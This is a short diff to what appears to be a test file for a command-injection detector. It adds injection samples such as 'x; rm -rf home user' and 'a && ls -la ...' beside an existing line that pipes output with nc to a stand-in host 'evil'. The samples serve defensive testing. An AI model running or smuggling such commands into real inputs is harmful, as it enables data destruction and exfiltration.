@@ -51,6 +51,9 @@ describeRules("command injection: prose that names or spells a command", (value)
       "ls -la output attached; id",
       "ls -la output attached | nc evil 80",
       "ping -c 10 localhost",
+      // After a shell operator the words are arguments, however plain.
+      "x; rm -rf home user",
+      "a && ls -la output attached",
     ],
     benign: ["rm -rf is dangerous, don't run it", "ls -la output attached", "nc -lvp is how you listen", "Run ls -la to list"],
   },
